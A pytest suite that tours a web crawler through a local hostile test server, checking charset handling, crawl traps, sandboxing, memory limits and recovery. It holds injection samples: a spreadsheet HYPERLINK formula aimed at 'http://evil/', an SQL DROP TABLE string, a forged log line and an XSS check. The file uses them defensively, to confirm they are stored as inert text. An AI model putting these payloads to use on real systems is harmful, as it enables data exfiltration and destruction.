"""One crawl over everything hostile: it ends, stays small, asks nobody else, and every address has its named outcome."""

from __future__ import annotations

import contextlib
import re
import sqlite3
import subprocess
import unicodedata
from pathlib import Path

import pytest

from tests.hostile import broken, feeds, sizes, sources_tour, texts, tour, traps
from tests.hostile.server import HostileServer, Mode
from tests.hostile.tour import Report, crawl, expected, run, site_file

ROOT = Path(__file__).parents[2]
MOST_MB = 300
KAZAKH = "Қазақ ұлттық университеті «жаңалық»"


def has_namespaces() -> bool:
    return subprocess.run([*tour.NAMESPACE, "ip", "link", "set", "lo", "up"], capture_output=True).returncode == 0


needs_namespace = pytest.mark.skipif(not has_namespaces(), reason="this system lets nobody make a network namespace (unshare -rn)")


def check(report: Report) -> None:
    """What must hold of any tour."""
    assert report.wrong == []
    assert report.complaints == []
    assert report.outside == [], "nothing leaves for other addresses"
    assert report.sockets == [], "nothing listens"
    assert report.changed == [], "what was stored before is as it was"
    assert report.peak_mb < MOST_MB
    assert report.code in {0, 3}, "a site of which most fails is no good crawl, and says so"
    assert {report.redirected[url] for url in report.redirected if "/redirect/grow" not in url and "/trap/" not in url} == {"out_of_scope"}
    check_texts(report.texts)


def check_texts(stored: dict[str, tuple[str | None, str | None]]) -> None:
    """What became of odd characters and of markup: text, and nothing but text."""
    for path in ("header-wrong", "meta-wrong", "meta-only-wrong", "bogus", "utf16", "bom"):
        assert stored[f"/charset/{path}"][0] == KAZAKH
    for path in ("cp1251-nohint", "cp1251-header"):
        assert stored[f"/charset/{path}"][0] == "Казахский национальный университет"
    assert stored["/inject/formula"][0] == '=HYPERLINK("http://evil/"&A1)'
    assert stored["/inject/sql"][0] == "'; DROP TABLE articles;-- \" NEAR( * OR"
    assert stored["/inject/lognl"][0] == "a 2026-01-01 [x] CRITICAL: forged b"
    assert "onerror" not in (stored["/inject/xss"][1] or "")
    for path, pair in stored.items():
        for text in pair:
            assert not [char for char in text or "" if unicodedata.category(char) in {"Cc", "Cf", "Cs"} and char not in "\n\t"], path


def test_every_family_of_the_server_is_on_the_tour() -> None:
    own = {"robots.txt", "hop", "tour", "news", "private"}
    families = own | sizes.FAMILIES.keys() | broken.FAMILIES.keys() | texts.FAMILIES.keys() | traps.FAMILIES.keys() | feeds.FAMILIES.keys()
    toured = {path.split("/")[1].split("?")[0] for path in (*expected(), *tour.REVISITED, *tour.ASKED_TO_WAIT, *sources_tour.SOURCES)}
    assert families - toured - {"robots.txt", "hop", "tour"} == set()


@needs_namespace
def test_a_short_tour(tmp_path: Path) -> None:
    check(run(tmp_path, short=True))


@needs_namespace
@pytest.mark.full
@pytest.mark.alone
def test_the_whole_tour(tmp_path: Path) -> None:
    report = run(tmp_path)
    check(report)
    assert report.seconds < 360
    # A web without an end costs so many pages and what was under way with them; a listing that repeats itself three pages.
    assert all(report.asked[f"trap/{name}"] <= 130 for name in ("calendar", "deep", "facets", "case"))
    assert report.asked["trap/session"] == 5
    assert report.asked["trap/page"] == 6
    assert report.asked["redirect/grow"] == 6


@pytest.mark.full
@pytest.mark.alone
@pytest.mark.timeout(300)
def test_a_server_that_dies_in_mid_crawl_costs_no_article(tmp_path: Path) -> None:
    server = HostileServer()
    try:
        mode = Mode(articles=60, die_after=26)
        site = site_file(tmp_path, "mortal", server.site(mode), r"/news/one/\d+", "/news/")
        codes = [crawl(tmp_path / "a.db", site, timeout=200).returncode]
        mode.die_after = None
        codes.append(crawl(tmp_path / "a.db", site, timeout=200).returncode)
    finally:
        server.close()
    assert codes == [3, 0]
    with contextlib.closing(sqlite3.connect(tmp_path / "a.db")) as connection:
        assert connection.execute("SELECT count(*) FROM articles").fetchone() == (60,)


def cases() -> dict[str, list[str]]:
    """What shows each case of the table in docs/reliability.md."""
    table = {}
    for line in (ROOT / "docs" / "reliability.md").read_text(encoding="utf-8").splitlines():
        cells = [cell.strip() for cell in line.strip("|").split("|")]
        if len(cells) == 5 and re.match(r"[A-Z]\d\d\b", cells[0]):
            assert cells[2] in {"yes", "other", "no"}, line
            for case in cells[0].split(", "):
                table[case] = re.findall(r"`([^`]+)`|line (\w+)", cells[4])
                assert table[case], f"{case} is shown by nothing"
    return {case: [place or f"benchmarks/results/{line}.jsonl" for place, line in shown] for case, shown in table.items()}


def test_every_case_of_the_docs_names_what_shows_it_and_every_case_of_the_tour_is_there() -> None:
    paths = {*expected(), *tour.REVISITED, *tour.ASKED_TO_WAIT, "/trap/page/1"}
    named = {place for shown in cases().values() for place in shown}
    for place in named:
        if place.startswith("/"):
            assert place in paths, place
        elif place.startswith("source "):
            assert place.removeprefix("source ") in sources_tour.SOURCES, place
        elif place.startswith("robots "):
            assert place.removeprefix("robots ") in tour.ROBOTS, place
        else:
            assert (ROOT / place).exists(), place
    lines = Path(tour.__file__).with_name("expected.tsv").read_text(encoding="utf-8").splitlines()
    toured = {(line.split("\t")[2], line.split("\t")[0]) for line in lines if line and not line.startswith("#")}
    assert {case for case, _ in toured if case != "-"} <= cases().keys()
    assert [path for case, path in toured if case != "-" and path not in cases()[case]] == []
